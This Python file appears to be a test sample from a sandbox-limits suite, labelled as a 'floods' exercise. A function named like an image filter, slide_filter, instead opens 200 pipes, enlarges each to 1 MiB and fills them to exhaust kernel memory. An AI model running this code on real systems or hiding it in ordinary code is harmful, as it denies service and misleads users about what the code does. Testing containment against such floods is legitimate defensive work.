"""It opens pipe after pipe and fills each, to hold memory of the kernel's own.

exercise: ex02
points: 0
status: RAISED
stopped-by: limits
group: floods
"""

import fcntl
import os

F_SETPIPE_SZ = 1031


def slide_filter(image, kernel):
    kept = []
    for _ in range(200):
        kept.append(os.pipe2(os.O_NONBLOCK))
        writing = kept[-1][1]
        try:
            fcntl.fcntl(writing, F_SETPIPE_SZ, 1 << 20)
        except OSError:
            pass
        os.write(writing, bytes(1 << 20))
    return None
